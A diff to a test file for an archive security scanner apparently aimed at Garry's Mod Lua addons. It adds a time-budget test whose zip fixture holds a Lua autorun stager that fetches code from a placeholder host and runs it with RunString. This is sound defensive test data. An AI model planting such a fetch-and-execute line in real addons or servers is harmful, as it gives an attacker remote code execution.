@@ -1,7 +1,7 @@
 // The public scanArchive pipeline: a valid result, cancellation, the time budget, unusable
 // input and archive-level findings.
 import { strToU8, zipSync } from 'fflate';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 import { scanResultSchema } from '@sentinelle/contracts';
 import {
   ENGINE_VERSION,
@@ -74,5 +74,33 @@ describe('scanArchive', () => {
     });
     const result = await scanArchive(hostile, {});
     expect(result.threats.map((t) => t.pattern_key)).toContain('archive_path_traversal');
+  });
+});
+
+describe('time budget', () => {
+  it('returns what the analysis covered, marked time_budget and never safe, when the deadline passes mid-scan', async () => {
+    // A fake clock that jumps two minutes once reading is over: deterministic on any machine.
+    let now = 1_000;
+    const clock = vi.spyOn(performance, 'now').mockImplementation(() => now);
+    try {
+      const stager = zipSync({
+        'lua/autorun/server/sv_a.lua': strToU8(
+          'http.Fetch("https://x.invalid/f.php?key=1", function(b) RunString(b) end)\n',
+        ),
+        'lua/autorun/server/sv_b.lua': strToU8('print("b")\n'),
+      });
+      const result = await scanArchive(stager, {
+        onPhase: (phase) => {
+          if (phase === 'analysing') now += 120_000;
+        },
+      });
+      expect(() => scanResultSchema.parse(result)).not.toThrow();
+      expect(result.limits_reached).toContain('time_budget');
+      expect(result.score).toBeLessThan(80);
+      expect(result.recommendations.map((r) => r.key)).toContain('incomplete_scan');
+      expect(result.files.every((f) => f.parse === 'skipped')).toBe(true);
+    } finally {
+      clock.mockRestore();
+    }
   });
 });
